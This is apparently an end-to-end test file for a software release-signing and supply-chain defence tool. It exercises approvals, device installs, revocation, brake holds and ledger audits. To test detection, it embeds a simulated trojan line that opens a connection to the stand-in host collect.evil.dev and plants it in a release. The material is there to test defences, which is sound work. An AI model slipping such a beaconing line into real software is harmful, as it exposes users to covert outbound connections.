// SPDX-License-Identifier: Apache-2.0
import assert from "node:assert/strict";
import { randomInt } from "node:crypto";
import { chmod, mkdir, readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { test } from "node:test";
import { pathToFileURL } from "node:url";
import { auditLedger } from "@countersign/release/ledger-audit";
import { directoryStore } from "@countersign/repository/directory-store";
import { copyStore } from "@countersign/world/copy-store";
import { liveProject } from "./live-project.test-support.ts";
import { countersignJson } from "./transcript.test-support.ts";

const { base, project, refused, said, world } = await liveProject(
  {
    monitors: [{ holder: "observe-dave", owner: "dave" }],
    brake: { bits: 12, askers: [{ holder: "brake-dave", owner: "dave" }] },
  },
  { sinks: [{ name: "logs", kind: "syslog", least: "Critical", host: "127.0.0.1", port: 9, caFile: null }] },
);

/** What a trojan starts to do, and does not declare. */
const talking = 'import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n';

async function plant(version: string, more: Readonly<Record<string, string>> = {}): Promise<string> {
  const directory = join(base, version);
  await mkdir(join(directory, "bin"), { recursive: true });
  await writeFile(join(directory, "bin/hello"), `#!/bin/sh\necho hello ${version}\n`);
  await chmod(join(directory, "bin/hello"), 0o755);
  for (const [path, text] of Object.entries(more)) await writeFile(join(directory, path), text);
  return directory;
}

async function release(version: string, more?: Readonly<Record<string, string>>): Promise<string> {
  const asked = await countersignJson<{ readonly id: string }>(project, "window", "open", "--as", "alice", "--reason", version);
  assert.equal(await refused("release", "propose", await plant(version), "--version", version), "window-not-open");
  assert.equal(await refused("window", "approve", asked.id, "--as", "alice"), "window-own");
  assert.match(await said("window", "approve", asked.id, "--as", "bob"), /is open for 1 of stable/);
  const args = ["release", "propose", await plant(version, more), "--version", version, "--expect", version];
  const { digest } = await countersignJson<{ readonly digest: string }>(project, ...args);
  return digest.slice(0, 8);
}

/** Flips one bit of one file of each kind, one after the other, and has the copy audited as `ledger audit` does. */
async function everyBitCounts(copy: string): Promise<void> {
  const anchor = await readFile(join(project, "root.json"));
  const store = directoryStore(copy);
  const faulty = async (): Promise<readonly string[]> => {
    const audited = await auditLedger(store, anchor, Date.now());
    return audited.ok ? audited.value.faults.map(({ path }) => path) : [audited.refusal.code];
  };
  for (let tries = 0; tries < 5 && (await faulty()).length > 0; tries++) await copyStore({ directory: project }, copy); // an entry came meanwhile
  assert.deepEqual(await faulty(), []);
  const kinds = new Map((await store.list("")).map((path) => [path.replace(/[0-9a-f]{64}|\d+/g, "N"), path]));
  for (const path of kinds.values()) {
    const bytes = await readFile(join(copy, path));
    const [at, bit] = [randomInt(bytes.length), randomInt(8)];
    await store.write(path, bytes.with(at, (bytes[at] ?? 0) ^ (1 << bit)));
    assert.notDeepEqual(await faulty(), [], `${path}, byte ${at}, bit ${bit}`);
    await store.write(path, bytes);
  }
  const strange = "metadata/notes.txt";
  await store.write(strange, Buffer.from("for whoever finds it"));
  assert.deepEqual(await faulty(), [strange]);
}

test("from a directory to a device, and back, by the commands that the help shows", async () => {
  const first = await release("1.0.0");
  assert.equal(await refused("release", "approve", first, "--as", "alice"), "not-confirmed");
  assert.equal(await refused("release", "approve", first, "--as", "dave", "--yes"), "approver-is-proposer");
  assert.match(await said("release", "approve", first, "--as", "alice", "--yes"), /provenance\/builders .* ok\n[\s\S]*countersigned/);
  assert.match(await said("release", "sign", first), /sign-\w+ signed:\n[\s\S]*soak\/elapsed/);
  await said("release", "publish", first);

  const from = ["--url", world.urls.distribute, "--root", join(project, "root.json"), "--product", "hello", "--channel", "stable"];
  await said("device", "init", "d", ...from);
  assert.match(await said("device", "install", "--dir", "d"), /installed: 1\.0\.0/);
  assert.equal(await said("device", "run", "--dir", "d", "bin/hello"), "hello 1.0.0\n");

  await copyStore({ directory: project }, join(base, "carried"));
  await said("device", "init", "offline", "--url", pathToFileURL(join(base, "carried")).href, ...from.slice(2));
  assert.match(await said("device", "install", "--dir", "offline"), /installed: 1\.0\.0/, "from a copy, and no network");

  assert.match(await said("bundle", "create", "site.bundle"), /site\.bundle: 1\.0\.0; \d+ documents, \d+ bytes, verified/);
  const anchor = ["--root", join(project, "root.json")];
  assert.match(await said("bundle", "verify", "site.bundle", ...anchor), /hello on stable: verified, \d+ checks\n.*: 1\.0\.0, release /);
  await said("device", "init", "site", "--url", "http://127.0.0.1:1", ...from.slice(2));
  assert.match(await said("bundle", "install", "site.bundle", "--dir", "site"), /installed: 1\.0\.0/, "from one file, and no network");

  const second = await release("1.1.0", { "package.json": JSON.stringify({ name: "hello", dependencies: { ms: "^2.1.3" } }) });
  assert.match(
    await said("release", "diff", second, "--registry", "http://127.0.0.1:1"),
    /version +1\.0\.0 +1\.1\.0\n[\s\S]*~ .*bin\/hello[\s\S]*A dependency that was not there[\s\S]*Nobody says how old ms: .*ECONNREFUSED/,
  );
  await said("release", "approve", second, "--as", "bob", "--yes");
  await said("release", "publish", second);
  assert.match(
    await said("observe", "calibrate", "--out", "rates.json"),
    /1 releases of hello stable compared[\s\S]*The rates are in rates\.json/,
  );
  assert.match(await said("device", "check", "--dir", "d"), /available: 1\.1\.0/);
  assert.match(await said("device", "install", "--dir", "d"), /installed: 1\.1\.0/);
  assert.match(await said("device", "explain", "--dir", "d"), /18 +confirm\/floors .* ok\n\ninstalled\n$/);

  await said("revoke", second, "--reason", "leaks tokens", "--as", "alice");
  assert.match(await said("device", "install", "--dir", "d"), /current: 1\.1\.0[\s\S]*flagged: what runs was revoked: leaks tokens/);
  assert.match(await said("bundle", "create", "site.bundle", "--revocations"), /what was revoked; \d+ documents/);
  assert.equal(await refused("bundle", "create", "/dev/null/site.bundle", "--revocations"), "io-failed");
  assert.match(await said("bundle", "install", "site.bundle", "--dir", "site"), /heard: 1\.0\.0 runs on/);
  assert.match(await said("device", "status", "--dir", "site"), /denials known +1/);
  const recall = await said("release", "order", "recall", second, "--reason", "leaks tokens", "--as", "alice");
  await said("release", "publish", /order ([0-9a-f]{12})/.exec(recall)?.[1] ?? "");
  assert.match(await said("device", "install", "--dir", "d"), /installed: 1\.0\.0/);
  assert.equal(await refused("device", "rollback", "--dir", "d"), "revoked");

  assert.equal(await refused("brake", "confirm", second, "--as", "alice"), "no-brake");
  const trojan = await release("1.2.0", { "bin/start.js": talking });
  const weighed = async (...rates: string[]): Promise<{ bits: number; rates: string } | undefined> =>
    (await countersignJson<{ drift: { bits: number; rates: string }[] }>(project, "release", "diff", trojan, ...rates)).drift[0];
  const strangers = await weighed();
  const history = await readFile(join(project, "rates.json"), "utf8");
  const { pairs, fired, ...rest } = JSON.parse(history);
  const usual = { ...fired, "capability-dangerous": pairs };
  await writeFile(join(project, "usual.json"), JSON.stringify({ ...rest, pairs, fired: usual, source: "releases that all talk" }));
  const ours = await weighed("--rates", "usual.json");
  assert.ok(strangers !== undefined && ours !== undefined && ours.bits < strangers.bits - 3, "the same pair, by other rates");
  assert.match(strangers.rates, /consecutive releases of \d+ npm packages/);
  assert.equal(ours.rates, "releases that all talk");
  assert.match(await said("release", "diff", trojan, "--rates", "usual.json"), /Rates: releases that all talk\.\n/);
  await writeFile(join(project, "damaged.json"), JSON.stringify({ ...rest, pairs, fired: { "file-added": { patch: pairs.patch + 1 } } }));
  assert.equal(await refused("release", "diff", trojan, "--rates", "damaged.json"), "malformed-document");
  assert.equal(await refused("release", "approve", trojan, "--as", "bob", "--yes", "--rates", "damaged.json"), "malformed-document");
  const approved = await said("release", "approve", trojan, "--as", "bob", "--yes", "--rates", "rates.json");
  assert.match(approved, /Rates: 1 releases of hello stable, [\s\S]*countersigned/);
  for (let wait = 0; !(await said("brake", "status")).includes(trojan); wait++) assert.ok(wait < 30, "nobody held the trojan");
  assert.match(await said("brake", "status"), /holds +7[12] h +brake-dave +revoke-\w+ +brake of brake-dave: [\d.]+ bits/);
  const { runs } = await countersignJson<{ runs: { results: { ruleId: string; level: string }[] }[] }>(
    project,
    "release",
    "diff",
    trojan,
    "--sarif",
  );
  assert.ok(runs[0]?.results.some(({ ruleId, level }) => ruleId === "privilege-undeclared" && level === "warning"));
  assert.match(await said("observe", "status"), /It sees\. [\s\S]*Sink logs: 0 to send\.[\s\S]*observe-dave +heard/);
  assert.match(
    await said("observe", "findings", "--severity", "Medium"),
    /Medium +A release changes what benign ones seldom change +hello 1\.2\.0 stable/,
  );
  const { findings } = await countersignJson<{ findings: { class_uid: number; metadata: { uid: string }; message: string }[] }>(
    project,
    ...["observe", "findings", "--severity", "Medium"],
  );
  assert.ok(findings.every(({ class_uid }) => class_uid === 2004));
  const uid = findings.find(({ message }) => message.includes("seldom"))?.metadata.uid ?? "";
  const explained = await said("observe", "explain", uid.slice(0, 12));
  assert.match(explained, /What it means[\s\S]*20\.4 bits[\s\S]*of 100[\s\S]*What to do[\s\S]*countersign release diff [0-9a-f]{12}/);
  assert.equal(await refused("observe", "explain", "00000000"), "finding-unknown");
  assert.match(await said("brake", "confirm", trojan, "--as", "alice"), /is revoked for ever/);
  assert.match(await said("brake", "status"), new RegExp(`${trojan}\\w+ +confirmed`));
  assert.match(await said("device", "install", "--dir", "d"), /current: 1\.0\.0/);

  assert.match(await said("window", "list"), /closed +1 +alice +bob/);
  assert.match(await said("grant", "list"), /ci +propose +stable +[0-9a-f]{12} +w-[0-9a-f]{16} +1 of 1/);
  assert.match(await said("release", "status"), /hello 1\.1\.0 +stable +2 +published +1 of 1 bob/);
  assert.match(await said("ledger", "verify"), /All entries verified\.[\s\S]*order +1\n/);
  assert.match(await said("ledger", "audit"), /each is what it must be, to the byte/);
  await everyBitCounts(join(base, "carried"));
  assert.match(await said("ledger", "prove", second), /^c2sp\.org\/tlog-proof@v1\nindex \d+\n/);
  const next = /countersign (ledger verify .+)$/m.exec(await said("ledger", "prove", second, "--out", "second.tlog-proof"))?.[1] ?? "";
  assert.match(await said(...next.split(" ")), /: release [0-9a-f]{64}, under \d witnesses\./);
  assert.match(await said("ledger", "tail", "-n", "100"), /order +[0-9a-f]{64}/);

  assert.match(await said("identity", "list"), /ci +ci +stable +propose +\w+ +\w+ +active/);
  assert.match(await said("identity", "suspend", "ci", "--reason", "to see", "--as", "alice"), /ci is suspended/);
  assert.match(await said("govern", "verify"), /record\/chain[\s\S]*The record verifies\./);
  await said("govern", "export", "govern.json");
  assert.match(await said("govern", "verify", "--export", "govern.json"), /The record verifies\./);
  assert.match(await said("govern", "restore", "govern.json", "--database", "restored.sqlite"), /The record verifies\./);
  assert.equal(await refused("govern", "restore", "govern.json", "--database", "restored.sqlite"), "database-not-empty");
  assert.equal(await refused("govern", "verify", "--database", "none.sqlite"), "no-database");
});
